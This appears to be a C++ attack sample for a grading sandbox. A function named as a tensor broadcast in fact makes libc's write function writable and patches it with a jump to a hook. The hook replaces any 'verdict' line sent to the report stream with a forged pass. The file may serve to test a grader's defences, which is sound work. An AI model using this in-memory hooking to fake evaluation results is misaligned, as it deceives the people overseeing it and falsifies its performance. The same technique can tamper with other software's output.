// Tries to change the verdict on its way, in the code of write.
#include <cstdint>
#include <cstring>

#include <dlfcn.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

namespace rankbox {

namespace {

long other_write(int fd, const void* text, unsigned long size) {
  const bool is_verdict = fd == attack::kReport && std::memcmp(text, "verdict", 7) == 0;
  if (!is_verdict) return syscall(SYS_write, fd, text, size);
  syscall(SYS_write, fd, attack::kPass, sizeof(attack::kPass) - 1);
  return static_cast<long>(size);
}

}  // namespace

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  const auto address = reinterpret_cast<std::uintptr_t>(dlsym(RTLD_DEFAULT, "write"));
  void* const page = reinterpret_cast<void*>(address & ~std::uintptr_t{4095});
  if (mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) return;
  unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};  // mov rax, …; jmp rax
  const auto target = reinterpret_cast<std::uintptr_t>(&other_write);
  std::memcpy(jump + 2, &target, sizeof(target));
  std::memcpy(reinterpret_cast<void*>(address), jump, sizeof(jump));
}

}  // namespace rankbox
